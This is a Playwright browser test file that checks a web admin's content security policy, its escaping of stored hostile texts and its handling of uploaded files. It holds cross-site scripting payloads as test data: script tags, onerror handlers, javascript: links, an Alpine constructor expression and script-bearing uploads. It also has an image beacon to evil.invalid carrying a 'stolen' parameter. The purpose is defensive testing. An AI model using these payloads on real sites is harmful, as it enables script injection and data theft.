"""The content security policy in a browser: pages work under it, and attacks do not.

By the console, where Chromium writes each violation: a page must have none, even of
what would have been blocked anyway.
"""

from __future__ import annotations

import json
import re
import urllib.request
from collections.abc import Iterator

import pytest
from playwright.sync_api import (
    Browser,
    BrowserContext,
    Page,
    Route,
    StorageState,
    expect,
)

from tests.e2e.browsing import context_of, silent
from tests.e2e.running import Platform, Tenant
from tests.e2e.test_admin_pages import DETAILS, LISTS

pytestmark = pytest.mark.browser

# What planted texts would set, if one of them ran.
RAN = "window.ran"


@pytest.fixture(scope="module")
def planted(platform: Platform) -> Platform:
    """The platform with an organization of hostile texts; see tests/e2e/planted.py."""
    told = platform.run("-m", "tests.e2e.planted")
    assert told.count("planted ") > 30
    return platform


@pytest.fixture(scope="module")
def context(
    planted: Platform, chromium: Browser, admin_state: StorageState
) -> Iterator[BrowserContext]:
    with context_of(chromium, planted.base_url, admin_state) as context:
        yield context


@pytest.fixture
def page(context: BrowserContext) -> Iterator[Page]:
    """A page that must keep its console empty."""
    with silent(context.new_page()) as page:
        yield page
        page.wait_for_load_state("load")
    page.close()


@pytest.fixture
def rough(context: BrowserContext) -> Iterator[Page]:
    """A page on which attacks are tried, which the console may tell."""
    page = context.new_page()
    yield page
    page.close()


# The admin under a policy without eval and without inline styles


def test_the_sidebar_folds_and_stays_folded(page: Page) -> None:
    page.goto("/admin/")
    sidebar = page.locator("#nav-sidebar-apps")
    switch = page.locator("[x-on\\:click*='sidebarDesktopOpen = !']")
    expect(sidebar).to_be_visible()
    switch.click()
    expect(sidebar).to_be_hidden()
    page.reload()
    expect(sidebar).to_be_hidden()
    switch.click()
    expect(sidebar).to_be_visible()


def test_a_narrow_window_opens_the_sidebar_by_hand(page: Page) -> None:
    page.set_viewport_size({"width": 600, "height": 900})
    page.goto("/admin/")
    expect(page.locator("#nav-sidebar-apps")).to_be_hidden()
    page.locator(
        "[x-on\\:click='sidebarMobileOpen = !sidebarMobileOpen']:visible"
    ).click()
    expect(page.locator("#nav-sidebar-apps")).to_be_visible()


def test_the_theme_is_switched_by_menu_and_by_keys(page: Page) -> None:
    page.goto("/admin/")
    menu = page.locator("[x-on\\:click='openUserLinks = !openUserLinks']")
    for theme in ("dark", "light"):
        menu.click()
        choice = page.locator(f"[x-on\\:click=\"switchTheme('{theme}')\"]")
        choice.click()
        expect(page.locator("html")).to_have_class(theme)
        menu.click()
        # A click while it fades would find it open and close it again.
        expect(choice).to_be_hidden()
    page.keyboard.press("Control+e")
    expect(page.locator("html")).to_have_class("dark")
    page.keyboard.press("Control+e")
    expect(page.locator("html")).to_have_class("light")


def test_the_bar_of_actions_is_as_wide_as_its_list(page: Page) -> None:
    page.goto("/admin/monitoring/alert/")
    bar = page.locator("#changelist-actions")
    expect(bar).to_be_hidden()
    page.locator("#result_list .action-select").first.check()
    expect(bar).to_be_visible()
    assert re.fullmatch(r"width: [1-9][0-9]+px;", bar.get_attribute("style") or "")
    run = page.get_by_role("button", name="Run", exact=True)
    expect(run).to_be_hidden()
    page.select_option("select[name=action]", "acknowledge")
    expect(run).to_be_visible()


def test_the_sheet_of_filters_opens_and_closes(page: Page) -> None:
    page.goto("/admin/registry/run/")
    sheet = page.locator("#changelist-filter")
    page.locator("#changelist a", has_text="Filters").click()
    expect(sheet).to_be_visible()
    page.keyboard.press("Escape")
    expect(sheet).to_be_hidden()


def test_a_form_keeps_its_address_and_offers_its_menus(page: Page) -> None:
    page.goto("/admin/tenants/apitoken/add/")
    form = page.locator("form[id$=_form]")
    expect(form).to_have_attribute("action", "/admin/tenants/apitoken/add/")
    menu = page.locator("[x-show=openRelatedWidgetWrapper]").first
    expect(menu).to_be_hidden()
    page.locator("[x-ref^=relatedWidgetWrapper]").first.click()
    expect(menu).to_be_visible()


def test_the_palette_opens_what_was_chosen_by_keyboard(page: Page) -> None:
    page.goto("/admin/")
    page.get_by_text("Search apps and models...").click()
    field = page.locator("#search-input-command")
    field.fill("planted")
    field.press("Enter")  # nothing is chosen yet
    expect(page.locator("#command-results li").first).to_be_visible()
    field.press("ArrowDown")
    field.press("Enter")
    page.wait_for_url("**/change/**")


def test_what_the_policy_blocks_is_reported(rough: Page, planted: Platform) -> None:
    rough.goto("/admin/?secret=hidden")
    with rough.expect_response("**/csp-reports") as reported:
        rough.evaluate(
            "document.body.append(Object.assign(new Image(),"
            " {src: 'https://evil.invalid/p.png?stolen=1'}))"
        )
    assert reported.value.status == 204
    log = (planted.var / "log" / "web.log").read_text()
    assert "img-src blocked https://evil.invalid on /admin/ by" in log
    assert "stolen" not in log
    assert "secret=hidden" not in log


def made(tag: str, properties: str) -> str:
    return f"Object.assign(document.createElement('{tag}'), {{{properties}}})"


# What is put into the page, and the directive that blocks it.
INJECTIONS = {
    "inline script": (
        made("script", "textContent: 'window.ran = 1'"),
        "script-src-elem",
    ),
    "handler": (
        made("div", "innerHTML: '<img src=x onerror=\"window.ran = 1\">'"),
        "script-src-attr",
    ),
    "script from elsewhere": (
        made("script", "src: 'data:text/javascript,window.ran = 1'"),
        "script-src-elem",
    ),
    "link": (
        made("a", "href: 'javascript:window.ran = 1', id: 'planted', text: 'x'"),
        "script-src-elem",
    ),
    "base": (made("base", "href: 'https://evil.invalid/'"), "base-uri"),
}
BLOCKED = """make => new Promise(resolve => {
    addEventListener("securitypolicyviolation", e => resolve(e.effectiveDirective));
    setTimeout(() => resolve("nothing"), 5000);
    document.body.append(make());
    document.getElementById("planted")?.click();
})"""
EXPRESSION = made(
    "div", "innerHTML: '<i x-init=\"constructor.constructor(`window.ran=1`)()\"></i>'"
)


@pytest.mark.parametrize("kind", INJECTIONS)
def test_injected_markup_does_not_run(rough: Page, kind: str) -> None:
    """What would be left of the harm if some page forgot to escape a text."""
    element, directive = INJECTIONS[kind]
    rough.goto("/admin/")
    assert rough.evaluate(f"({BLOCKED})(() => {element})") == directive
    assert rough.evaluate(RAN) is None
    assert rough.evaluate("document.baseURI").startswith("http://127.0.0.1")


def test_an_injected_expression_does_not_run(rough: Page) -> None:
    """Alpine reads it, in its build that knows no globals."""
    rough.goto("/admin/")
    with rough.expect_console_message(lambda said: "CSP" in said.text):
        rough.evaluate(f"document.body.append({EXPRESSION})")
    assert rough.evaluate(RAN) is None


def test_eval_is_off(rough: Page) -> None:
    rough.goto("/admin/")
    tried = """() => new Promise(resolve => {
        addEventListener("securitypolicyviolation", e => resolve(e.blockedURI));
        setTimeout("window.ran = 1");
        setTimeout(() => resolve("nothing"), 2000);
    })"""
    assert rough.evaluate(tried) == "eval"
    assert rough.evaluate(RAN) is None


def test_no_page_lets_itself_be_framed(rough: Page) -> None:
    """E12, by our own origin even."""
    framed = ("/admin/", "/accounts/login/", "/api/v1/docs/", "/health/ready")
    frames = "".join(f"<iframe src='{address}'></iframe>" for address in framed)
    serve(rough, "framing", frames)
    rough.goto("/framing")
    shown = [frame.url for frame in rough.frames][1:]
    assert shown == ["chrome-error://chromewebdata/"] * len(framed)


def serve(page: Page, name: str, html: str) -> None:
    """Put a page without any policy into our origin: an attack at its best."""

    def fulfil(route: Route) -> None:
        route.fulfill(body=f"<!doctype html>{html}", content_type="text/html")

    page.route(f"**/{name}", fulfil)


# The description of REST


def test_the_pages_of_the_description_work(page: Page) -> None:
    page.goto("/api/v1/docs/")
    operation = page.locator("#operations-organizations-organizations_list")
    operation.locator(".opblock-summary-control").first.click()
    operation.get_by_role("button", name="Try it out").click()
    operation.get_by_role("button", name="Execute").click()
    status = operation.locator(".live-responses-table .response-col_status").last
    expect(status).to_contain_text("200")


# What people have stored: escaped, and not merely blocked


def assert_inert(page: Page) -> None:
    assert page.evaluate(RAN) is None, page.url
    for planted in ("#main [onerror]", "#main [onload]", "a[href^='javascript:' i]"):
        assert page.locator(planted).count() == 0, page.url


def test_lists_of_hostile_texts_show_them_as_text(page: Page) -> None:
    for address in LISTS:
        page.goto(f"/admin/{address}")
        assert_inert(page)


def test_rows_of_hostile_texts_show_them_as_text(page: Page) -> None:
    for address in DETAILS:
        page.goto(f"/admin/{address}")
        rows = page.locator("#result_list tbody tr")
        hostile = rows.filter(has_text="onerror=")
        (hostile if hostile.count() else rows).locator("th a").first.click()
        page.wait_for_url("**/change/**")
        assert_inert(page)


def test_hostile_texts_are_there_to_be_seen(page: Page) -> None:
    """Or the two tests before would say nothing."""
    for address in ("registry/run/", "registry/experiment/", "monitoring/alert/"):
        page.goto(f"/admin/{address}")
        expect(page.locator("#result_list")).to_contain_text("<img src=x onerror=")


def test_the_palette_shows_hostile_names_as_text(page: Page) -> None:
    page.goto("/admin/")
    page.get_by_text("Search apps and models...").click()
    page.locator("#search-input-command").press_sequentially("0'\"><img")
    results = page.locator("#command-results")
    expect(results.get_by_text("onerror=").first).to_be_visible()
    assert page.evaluate(RAN) is None


# What people have uploaded

SCRIPT = "try { top.ran = 1 } catch (e) {} localStorage.setItem('ran', 1)"
UPLOADS = {
    "x.html": f"<!doctype html><script>{SCRIPT}</script>",
    "x.xhtml": "<html xmlns='http://www.w3.org/1999/xhtml'><body>"
    f"<script>{SCRIPT}</script></body></html>",
    "x.svg": f"<svg xmlns='http://www.w3.org/2000/svg'><script>{SCRIPT}</script></svg>",
    "x.xml": "<x xmlns:h='http://www.w3.org/1999/xhtml'>"
    f"<h:script>{SCRIPT}</h:script></x>",
    "x.js": SCRIPT,
    "x.mjs": SCRIPT,
    "x.css": "body { background: red }",
    "x.pdf": f"%PDF-1.4 <script>{SCRIPT}</script>",
    "x": f"<!doctype html><script>{SCRIPT}</script>",
}
EMBEDDED = """
<iframe src="{0}"></iframe><object data="{0}"></object><embed src="{0}">
<img src="{0}"><script src="{0}"></script><script type="module" src="{0}"></script>
<link rel="stylesheet" href="{0}"><video src="{0}"></video>
"""


@pytest.fixture(scope="module")
def folder(tenant: Tenant) -> str:
    """The address below which the hostile files were uploaded."""
    made = call(tenant, "POST", "/api/2.0/mlflow/runs/create", {"experiment_id": "0"})
    run = json.loads(made)["run"]["info"]["run_id"]
    address = f"/api/2.0/mlflow-artifacts/artifacts/0/{run}/artifacts"
    for name, content in UPLOADS.items():
        call(tenant, "PUT", f"{address}/{name}", content)
    return address


def call(tenant: Tenant, method: str, address: str, body: object) -> bytes:
    text = body if isinstance(body, str) else json.dumps(body)
    request = urllib.request.Request(
        tenant.base_url + address,
        text.encode(),
        {
            "Authorization": f"Bearer {tenant.token}",
            "Content-Type": "application/json",
        },
        method=method,
    )
    with urllib.request.urlopen(request) as answer:
        content: bytes = answer.read()
    return content


@pytest.fixture
def reader(rough: Page, tenant: Tenant) -> Page:
    """A page whose requests for files carry what lets them in."""

    def with_token(route: Route) -> None:
        own = {"authorization": f"Bearer {tenant.token}"}
        route.continue_(headers={**route.request.headers, **own})

    rough.route("**/mlflow-artifacts/**", with_token)
    return rough


def has_run(page: Page) -> bool:
    there = "() => Boolean(window.ran || localStorage.getItem('ran'))"
    return bool(page.evaluate(there))


def test_an_upload_that_is_opened_is_saved_and_not_run(
    reader: Page, folder: str
) -> None:
    reader.goto("/accounts/login/")
    for name in UPLOADS:
        with reader.expect_download() as saved:
            reader.evaluate(f"window.location = '{folder}/{name}'")
        assert saved.value.suggested_filename == name
        assert folder not in reader.url
        assert not has_run(reader)


def test_an_upload_that_a_page_embeds_does_nothing(reader: Page, folder: str) -> None:
    """In our own origin, on a page that has no policy at all."""
    embedded = [EMBEDDED.format(f"{folder}/{name}") for name in UPLOADS]
    serve(reader, "embedding", "".join(embedded))
    reader.goto("/embedding")
    assert not has_run(reader)
    ground = "getComputedStyle(document.body).backgroundColor"
    assert reader.evaluate(ground) == "rgba(0, 0, 0, 0)"


@pytest.mark.parametrize("name", ["x.html", "x.js", "x.svg"])
def test_the_same_upload_runs_where_nothing_stops_it(reader: Page, name: str) -> None:
    """Or the test before would pass on files that never run, or run later."""
    kind = {"html": "text/html", "js": "text/javascript", "svg": "image/svg+xml"}

    def bare(route: Route) -> None:
        route.fulfill(body=UPLOADS[name], content_type=kind[name.partition(".")[2]])

    reader.route("**/bare", bare)
    serve(reader, "embedding", EMBEDDED.format("/bare"))
    reader.goto("/embedding")
    assert has_run(reader)
    reader.evaluate("localStorage.removeItem('ran')")
